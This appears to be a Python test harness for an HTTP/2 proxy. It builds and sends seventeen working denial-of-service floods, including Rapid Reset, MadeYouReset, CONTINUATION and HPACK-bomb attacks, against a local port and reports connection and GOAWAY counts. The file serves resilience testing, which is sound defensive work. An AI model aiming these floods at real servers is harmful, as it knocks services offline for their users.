"""Attacks on HTTP/2 in a process of their own: `python h2_attacker.py ATTACK PORT SECONDS`, at the highest rate of one core.

What an attack sends on a connection is prepared, and sent again on a new connection when the proxy has closed one. It ends
after that time, or earlier by SIGTERM, and prints JSON: its seconds, connections, bytes sent, connections that the proxy
ended, and how often each code came in a GOAWAY frame.
"""

import contextlib
import json
import os
import selectors
import signal
import socket
import sys
import time
from collections import Counter
from collections.abc import Callable
from typing import Final

from tests.kit import h2_frames as wire

from pymosn.protocol.http2 import frames as known

#: Connections at the same time.
PARALLEL: Final = 8
PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
#: Streams or frames of one connection; it ends, and another one begins, when the proxy has let them all pass.
MANY: Final = 20_000
#: What is asked for; the others have another upstream.
SMALL: Final = b"/attacked"
LARGE: Final = b"/bytes/1000000"


def head(path: bytes = SMALL, method: bytes = b"GET", *more: tuple[bytes, bytes]) -> bytes:
    """A request's header block."""
    pseudo = ((b":method", method), (b":scheme", b"http"), (b":authority", b"show"), (b":path", path))
    return wire.literals((*pseudo, *more))


def streams(count: int) -> range:
    """The numbers of the first streams of a client."""
    return range(1, 2 * count, 2)


def rapid_reset() -> bytes:
    """CVE-2023-44487."""
    block = head()
    return b"".join(wire.headers(stream, block, end=True) + wire.rst_stream(stream) for stream in streams(MANY))


def made_you_reset() -> bytes:
    """CVE-2025-8671: the proxy resets each stream itself, because of an update of nothing."""
    block = head()
    return b"".join(wire.headers(stream, block, end=True) + wire.window_update(stream, 0) for stream in streams(MANY))


def data_after_end() -> bytes:
    """The same, by content after the end of the request."""
    block = head()
    return b"".join(wire.headers(stream, block, end=True) + wire.data(stream, b"more") for stream in streams(MANY))


def malformed() -> bytes:
    """The same, by requests that are no requests."""
    block = wire.literals([(b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"show"), (b"x", b"y")])
    return b"".join(wire.headers(stream, block, end=True) for stream in streams(MANY))


def continuation() -> bytes:
    """CVE-2024-27316: a head without an end."""
    field = wire.literal(b"x-more", b"y" * 1000)
    return wire.frame(known.HEADERS, 0, 1, head()) + wire.frame(known.CONTINUATION, 0, 1, field) * MANY


def empty_continuation() -> bytes:
    """The same without a byte of it."""
    return wire.frame(known.HEADERS, 0, 1, head()) + wire.frame(known.CONTINUATION, 0, 1) * MANY


def settings() -> bytes:
    """CVE-2019-9515."""
    return (wire.settings((1, 0)) + wire.settings((1, 4096), (4, 70000))) * MANY


def ping() -> bytes:
    """CVE-2019-9512."""
    return wire.ping() * MANY


def priority() -> bytes:
    """CVE-2019-9513."""
    return b"".join(wire.priority(stream, stream + 2) for stream in streams(MANY))


def empty_data() -> bytes:
    """CVE-2019-9518."""
    return wire.headers(1, head(SMALL, b"POST")) + wire.data(1, b"") * MANY


def padding() -> bytes:
    """The same, with nothing but padding."""
    return wire.headers(1, head(SMALL, b"POST")) + wire.data(1, b"", padding=255) * 200


def window_update() -> bytes:
    """Updates of one byte, of the connection and of a stream."""
    block = wire.headers(1, head(LARGE), end=True)
    return block + (wire.window_update(0, 1) + wire.window_update(1, 1)) * MANY


def unknown_frames() -> bytes:
    """Frames of a type that nobody knows, which are ignored."""
    return wire.frame(0xBB, 0, 0, b"") * MANY


def hpack_bomb() -> bytes:
    """CVE-2016-6581: a byte each for a field of 4,000 bytes."""
    stored = b"\x40\x01x" + b"\x7f" + bytes(((4000 - 127) % 128 + 128, (4000 - 127) // 128)) + b"y" * 4000
    first = wire.headers(1, head() + stored, end=True)
    block = head() + b"\xbe" * 16000
    return first + b"".join(wire.headers(stream, block, end=True) for stream in streams(400)[1:])


def zero_window() -> bytes:
    """CVE-2019-9511: large responses that are never taken."""
    block = head(LARGE)
    return wire.settings((4, 0)) + b"".join(wire.headers(stream, block, end=True) for stream in streams(100))


def unread() -> bytes:
    """CVE-2019-9517: the same with open windows, on a connection from which nothing is read."""
    block = head(LARGE)
    windows = wire.settings((4, (1 << 31) - 1)) + wire.window_update(0, (1 << 30))
    return windows + b"".join(wire.headers(stream, block, end=True) for stream in streams(100))


def requests() -> bytes:
    """More requests than may be open at once."""
    block = head()
    return b"".join(wire.headers(stream, block, end=True) for stream in streams(MANY))


ATTACKS: Final[dict[str, Callable[[], bytes]]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        made_you_reset,
        data_after_end,
        malformed,
        continuation,
        empty_continuation,
        settings,
        ping,
        priority,
        empty_data,
        padding,
        window_update,
        unknown_frames,
        hpack_bomb,
        zero_window,
        unread,
        requests,
    )
}


class Attacker:
    """All connections of an attack."""

    def __init__(self, name: str, port: int) -> None:
        self._data = memoryview(PREFACE + wire.settings() + ATTACKS[name]())
        #: Those from which nothing is read, and those that stay when all is sent.
        self._reads = name != "unread"
        self._stays = name in ("zero_window", "unread")
        self._port = port
        self._selector = selectors.DefaultSelector()
        self._unread: list[socket.socket] = []
        self.connections = 0
        self.bytes = 0
        self.ended = 0
        self.codes: Counter[int] = Counter()
        self.seconds = 0.0
        self._ends = False

    def end(self, *signaled: object) -> None:
        """Ends the attack early."""
        self._ends = True

    def run(self, seconds: float) -> None:
        """Attacks for that time."""
        began = time.monotonic()
        for _ in range(PARALLEL):
            self._connect()
        while not self._ends and self.seconds < seconds:
            for key, events in self._selector.select(0.1):
                self._step(key, events)
            self.seconds = time.monotonic() - began

    def _connect(self) -> None:
        made = socket.socket()
        made.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            made.connect(("127.0.0.1", self._port))
        self.connections += 1
        events = selectors.EVENT_WRITE | (selectors.EVENT_READ if self._reads else 0)
        self._selector.register(made, events, [0])

    def _step(self, key: selectors.SelectorKey, events: int) -> None:
        connection: socket.socket = key.fileobj  # type: ignore[assignment]
        sent: list[int] = key.data
        try:
            if events & selectors.EVENT_READ:
                data = connection.recv(1 << 16)
                if not data:
                    raise ConnectionResetError
                self._note(data)
            if events & selectors.EVENT_WRITE:
                count = connection.send(self._data[sent[0] : sent[0] + (1 << 18)])
                self.bytes += count
                sent[0] += count
                if sent[0] == len(self._data):
                    if not self._stays:
                        self._again(connection)
                    elif self._reads:
                        self._selector.modify(connection, selectors.EVENT_READ, sent)
                    else:
                        self._selector.unregister(connection)
                        self._unread.append(connection)
        except BlockingIOError:
            pass
        except OSError:
            self.ended += 1
            self._again(connection)

    def _again(self, connection: socket.socket) -> None:
        self._selector.unregister(connection)
        connection.close()
        self._connect()

    def _note(self, data: bytes) -> None:
        """Counts the GOAWAY frames, which are what the proxy sends last."""
        at = data.rfind(b"\x07\x00\x00\x00\x00\x00")
        if at >= 3 and len(data) >= at + 14:
            self.codes[int.from_bytes(data[at + 10 : at + 14], "big")] += 1


def main(name: str, port: int, seconds: float) -> None:
    """Runs one attack."""
    attacker = Attacker(name, port)
    signal.signal(signal.SIGTERM, attacker.end)
    attacker.run(seconds)
    figures = {
        "seconds": attacker.seconds,
        "connections": attacker.connections,
        "bytes": attacker.bytes,
        "ended": attacker.ended,
    }
    print(json.dumps({**figures, "codes": attacker.codes}), flush=True)
    os._exit(0)  # the sockets are reset, all at once


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))
